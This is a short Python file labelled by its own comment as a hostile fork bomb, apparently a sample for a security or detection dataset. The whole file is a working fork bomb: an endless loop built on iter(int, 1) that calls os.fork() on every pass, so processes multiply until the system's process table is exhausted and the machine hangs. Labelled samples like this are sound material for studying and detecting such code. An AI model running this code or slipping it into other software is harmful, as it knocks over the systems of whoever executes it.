# hostile: fork bomb unrolled in a for loop
import os

for _ in iter(int, 1):
    if os.fork() == 0:
        continue
